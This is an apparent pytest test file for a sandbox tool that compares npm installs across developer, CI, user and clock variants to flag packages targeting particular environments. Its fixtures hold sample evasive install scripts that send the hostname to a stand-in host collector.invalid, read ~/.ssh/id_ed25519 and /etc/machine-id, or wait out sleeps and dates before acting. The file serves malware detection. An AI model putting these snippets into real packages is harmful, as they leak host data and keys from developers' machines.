# SPDX-License-Identifier: Apache-2.0
"""Real installs compared: packages that act for some kind of user only, and packages that do not."""

from __future__ import annotations

import json
import signal
import subprocess
import time
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from local_packages import Npm, npm_project

if TYPE_CHECKING:
    from conftest import Fpbox
else:
    Fpbox = Any

pytestmark = [pytest.mark.docker, pytest.mark.usefixtures("nothing_left"), pytest.mark.timeout(900)]

PATIENCE_S = 600
INSTALL = ("npm", "install", "--offline", "--no-audit", "--no-update-notifier")
SEND = "require('http').get('http://collector.invalid/' + require('os').hostname()).on('error', () => {});"
IN_CI = f"if (process.env.GITHUB_ACTIONS) {{ {SEND} }}"
NOT_IN_CI = """
if (!process.env.CI) {
  require('child_process').spawnSync('git', ['config', 'core.hooksPath', '.husky/_']);
  require('fs').writeFileSync('hook.sh', '#!/bin/sh');
  console.log('hooks are set up');
}
"""
NOISY = """
const fs = require('fs'), os = require('os'), path = require('path');
const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'b'));
fs.writeFileSync(path.join(folder, String(Date.now())), new Date().toISOString());
fs.writeFileSync(Math.random().toString(36).slice(2) + '.log', String(process.pid));
fs.readFileSync('/proc/self/status');
fs.existsSync(path.join(os.homedir(), '.cache', 'noisy'));
const server = require('net').createServer().listen(0, '127.0.0.1', () => server.close());
"""
WANTS_KEYS = """
const fs = require('fs'), os = require('os'), path = require('path');
const key = path.join(os.homedir(), '.ssh', 'id_ed25519');
if (fs.existsSync(key)) { fs.readFileSync(key); fs.readFileSync('/etc/machine-id'); }
"""
WANTS_USER = f"if (require('os').userInfo().username === 'jdoe') {{ {SEND} }}"
FAILS_IN_CI = "process.exit(process.env.CI ? 1 : 0)"
TIMER_IN_CI = f"if (process.env.CI) setTimeout(() => {{ {SEND} }}, 4000);"
_STARTS = {"sh": ("sh install.sh", "install.sh"), "py": ("python3 install.py", "install.py")}
CURL = "curl -s http://collector.invalid/$(hostname)"
SLEEP_IN_CI = f'test -z "$CI" || {{ sleep 300; {CURL}; }}; true'
PYTHON_SLEEP_IN_CI = """
import os, subprocess, time
if os.environ.get("CI"):
    time.sleep(300)
    subprocess.run(["cat", "/etc/machine-id"])
"""


def project(folder: Path, **scripts: str) -> Path:
    """Make a project of local packages with these install scripts, in JavaScript, shell ("sh:") or Python."""
    packages = {}
    for name, script in scripts.items():
        language, _, words = script.partition(":")
        start, file = _STARTS.get(language, ("node index.js", "index.js"))
        packages[name] = Npm(start, {file: words if language in _STARTS else script})
    return npm_project(folder, packages)


class Compared:
    """A comparison that has ended."""

    def __init__(self, fpbox: Fpbox, where: Path, *options: str, command: tuple[str, ...] = INSTALL) -> None:
        file = fpbox.folder / "comparison.json"
        given = ("--linger", "1", "--json", str(file), *options, "--", *command)
        process = fpbox.start("compare", *given, cwd=where)
        self.out, self.err = process.communicate(timeout=PATIENCE_S)
        self.code = process.returncode
        self.json: dict[str, Any] = json.loads(file.read_bytes()) if file.exists() else {}

    def package(self, name: str) -> dict[str, Any]:
        found: dict[str, Any] = next(
            one for one in self.json["packages"] if one["purl"] == f"pkg:npm/{name}@1.0.0"
        )
        return found

    def targeted(self, name: str) -> str:
        """Return the importance of the finding, or ""."""
        found = (one for one in self.package(name)["findings"] if one["recipe"] == "targeted_behaviour")
        return next((one["importance"] for one in found), "")

    def differs(self, name: str) -> set[tuple[str, str, tuple[str, ...]]]:
        shown = self.package(name)["differences"]
        return {(one["action"], one["example"], tuple(one["only_as"])) for one in shown}


def test_a_developer_and_a_ci_job_see_what_each_package_is(fpbox: Fpbox, tmp_path: Path) -> None:
    """One that acts in CI, one that is quiet there, one whose doings differ by lot, one that does nothing."""
    where = project(tmp_path, sly=IN_CI, hooks=NOT_IN_CI, noisy=NOISY, calm="0")
    found = Compared(fpbox, where)
    assert found.code == 3, found.err
    assert [(one["variant"], one["repeat"]) for one in found.json["runs"]] == [
        ("developer", 0), ("developer", 1), ("ci", 0)
    ]  # fmt: skip
    assert found.targeted("sly") == "high"
    assert ("request", "GET http://collector.invalid/{host_name}", ("ci",)) in found.differs("sly")
    assert ("connect", "collector.invalid:80", ("ci",)) in found.differs("sly")
    assert found.targeted("hooks") == ""
    started = ("exec", "/usr/bin/git config core.hooksPath .husky/_", ("developer",))
    assert started in found.differs("hooks")
    for name in ("noisy", "calm"):
        assert found.differs(name) == set()
        assert found.package(name)["recipe_differences"] == []
    assert found.json["flagged"] == ["pkg:npm/sly@1.0.0"]
    table = found.err.decode()
    assert "requested GET http://collector.invalid/{host_name}" in table
    assert "started /usr/bin/git config core.hooksPath .husky/_" in table
    assert len({one["report"]["run"]["seed"] for one in found.json["runs"]}) == 1
    assert len(fpbox.run_ids) == 3
    first = found.json["runs"][0]["report"]["run"]["id"]
    kept = fpbox.state / "fpbox" / "runs" / first / "comparison.json"
    assert json.loads(kept.read_bytes()) == found.json


def test_one_that_acts_for_one_user_or_for_somebody_with_keys_is_found(fpbox: Fpbox, tmp_path: Path) -> None:
    where = project(tmp_path, chooses=WANTS_USER, collects=WANTS_KEYS, noisy=NOISY)
    found = Compared(fpbox, where, "--vary", "user=jdoe", "--vary", "home", "--vary", "seed")
    assert found.code == 3, found.err
    user, home, seed = "developer+user=jdoe", "developer+empty-home", "developer, another seed"
    assert found.json["variants"] == ["developer", user, home, seed]
    assert found.targeted("chooses") == "high"
    assert ("connect", "collector.invalid:80", (user,)) in found.differs("chooses")
    assert found.targeted("collects") == "high"
    assert ("open", "~/.ssh/id_ed25519", ("developer", user, seed)) in found.differs("collects")
    assert found.targeted("noisy") == ""
    assert found.differs("noisy") == set()


def test_what_comes_after_five_minutes_is_found_where_sleeps_are_skipped(
    fpbox: Fpbox, tmp_path: Path
) -> None:
    """A timer of node's is waited for in real time; this one is short."""
    where = project(tmp_path, bash=f"sh:{SLEEP_IN_CI}", snake=f"py:{PYTHON_SLEEP_IN_CI}", timer=TIMER_IN_CI)
    found = Compared(fpbox, where, "--timeout", "100s")
    assert found.code == 3, found.err
    assert {name: found.targeted(name) for name in ("bash", "snake", "timer")} == {
        "bash": "high", "snake": "high", "timer": "high"
    }  # fmt: skip


def test_what_waits_for_a_date_is_found_by_another_clock(fpbox: Fpbox, tmp_path: Path) -> None:
    """In node, Python and a shell; what is sent goes over TLS, whose certificates are of that time."""
    when = int(time.time()) + 20 * 86_400
    secure = SEND.replace("http", "https")
    where = project(
        tmp_path,
        dated=f"if (Date.now() > {when}000) {{ {secure} }}",
        snake=f"py:import time\nif time.time() > {when}: open('/etc/machine-id').read()",
        moved=f'sh:test "$(date +%s)" -lt {when} || {CURL}; true',
        calm="new Date()",
    )
    found = Compared(fpbox, where, "--vary", "clock=30d")
    assert found.code == 3, found.err
    assert {name: found.targeted(name) for name in ("dated", "snake", "moved", "calm")} == {
        "dated": "high", "snake": "high", "moved": "high", "calm": ""
    }  # fmt: skip
    later = "developer+clock=30d"
    assert ("request", "GET https://collector.invalid/{host_name}", (later,)) in found.differs("dated")
    assert found.differs("calm") == set()
    assert not [
        note for one in found.json["runs"] for note in one["report"]["coverage"]["notes"] if "clock" in note
    ]


def test_a_command_that_fails_as_one_only_is_inconclusive(fpbox: Fpbox, tmp_path: Path) -> None:
    found = Compared(fpbox, project(tmp_path, picky=FAILS_IN_CI), "--network", "none")
    assert found.code == 4
    assert found.json["verdict"] == "inconclusive"
    assert (
        "did not end alike: as developer with 0, as developer, again with 0, as ci with 1"
        in found.err.decode()
    )


def test_the_time_limit_of_one_run_is_the_comparisons(fpbox: Fpbox, tmp_path: Path) -> None:
    command = ("sh", "-c", 'test -z "$CI" || exec sleep 300')
    found = Compared(fpbox, tmp_path, "--no-project", "--network", "none", "--timeout", "5s", command=command)
    assert found.code == 124
    assert found.json["verdict"] == "inconclusive"


def test_a_command_that_cannot_be_run_is_said_once(fpbox: Fpbox, tmp_path: Path) -> None:
    found = Compared(fpbox, tmp_path, "--no-project", "--network", "none", command=("no-such-program",))
    assert found.code == 127
    assert found.json == {}
    assert found.err.count(b"run 1 of 3") == 1
    assert b"run 2 of 3" not in found.err


def test_output_goes_to_standard_output_and_the_report_too_when_asked(fpbox: Fpbox) -> None:
    given = ("--no-project", "--network", "none", "--linger", "0", "-q", "--vary", "host=build-07")
    process = fpbox.start("compare", *given, "sh", "-c", "uname -n; exit 7")
    out, err = process.communicate(timeout=PATIENCE_S)
    assert process.returncode == 7, err
    names = out.decode().split()
    assert (names[0] == names[1], names[2]) == (True, "build-07")
    process = fpbox.start("compare", *given, "-o", "json=-", "echo", "hello")
    out, err = process.communicate(timeout=PATIENCE_S)
    assert json.loads(out)["variants"] == ["developer", "developer+host=build-07"]
    assert err.count(b"hello") == 3


def test_a_signal_ends_the_comparison(fpbox: Fpbox) -> None:
    process = fpbox.start(
        "compare",
        "--no-project",
        "--network",
        "none",
        "sh",
        "-c",
        "echo begun; sleep 300",
        stderr=subprocess.DEVNULL,
    )
    fpbox.until_output(process, b"begun")
    process.send_signal(signal.SIGTERM)
    process.communicate(timeout=PATIENCE_S)
    assert process.returncode == 128 + signal.SIGTERM
    assert len(fpbox.run_ids) == 1


@pytest.mark.parametrize(
    ("options", "said"),
    [
        (("--persona", "ci"), b"nothing would differ"),
        (("--vary", "moon"), b"'moon'"),
        (("--persona", "ci", "--persona", "nobody"), b"no persona 'nobody'"),
        (("--no-machine",), b"nothing to vary"),
        (("-o", "jsonl=x"), b"a record for each of its runs"),
        (("--json", "/nowhere/x"), b"no such directory"),
    ],
)
def test_mistakes_are_told_before_anything_runs(fpbox: Fpbox, options: tuple[str, ...], said: bytes) -> None:
    done = fpbox("compare", *options, "true")
    assert done.returncode == 2
    assert said in done.stderr
    assert fpbox.run_ids == []


def test_settings_of_a_file_hold_for_the_runs_of_a_comparison(fpbox: Fpbox) -> None:
    (fpbox.folder / "fpbox.toml").write_text(
        'network = "none"\nlinger = "0"\npersona = "ci"\nno-project = true\n'
    )
    done = fpbox("compare", "--json", "c.json", "-q", "true")
    assert done.returncode == 0, done.stderr
    runs = json.loads((fpbox.folder / "c.json").read_bytes())["runs"]
    assert [one["report"]["run"]["persona"] for one in runs] == ["developer", "developer", "ci"]
    assert {one["report"]["run"]["network"] for one in runs} == {"none"}
